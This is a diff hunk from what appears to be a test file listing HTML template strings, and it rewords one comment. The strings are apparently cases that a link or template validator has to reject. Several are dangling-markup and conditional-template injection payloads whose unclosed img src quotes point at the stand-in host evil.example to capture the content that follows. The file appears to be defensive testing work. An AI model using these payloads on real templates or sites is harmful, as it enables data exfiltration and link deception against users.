@@ -72,7 +72,7 @@ const ELSEWHERE = [
   `<p>https://evil.example/?l=<b>${URL}</b></p>`,
   `<p>{{ client.name }}${URL}</p>`,
   `<p>https://evil.example/?l=<a href="${URL}"></a></p>`,
-  // What a condition leaves out changes what the rest is.
+  // A condition leaves out a quote or a tag, and the rest is read as something else.
   `<img alt="{% if client.name %}" src='https://evil.example/?{% else %}'{% endif %}x"> <a href="${URL}">Choose</a><p>'</p>`,
   `{% if client.name %}<img src='https://evil.example/?{% endif %} <a href="${URL}">Choose</a> {% if client.name %}'>{% endif %}`,
   `{% if client.name %}<!--{% endif %} ${LINK} -->`,
